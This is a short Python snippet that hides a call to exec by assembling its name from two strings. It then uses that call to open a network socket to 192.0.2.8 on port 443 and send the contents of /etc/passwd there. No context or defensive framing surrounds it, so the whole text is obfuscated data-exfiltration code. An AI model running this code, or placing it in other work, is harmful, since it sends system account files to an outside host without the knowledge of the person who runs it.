import builtins
run = builtins.__dict__["ex" + "ec"]
run("import socket;s=socket.socket();s.connect(('192.0.2.8',443));s.send(open('/etc/passwd','rb').read())")
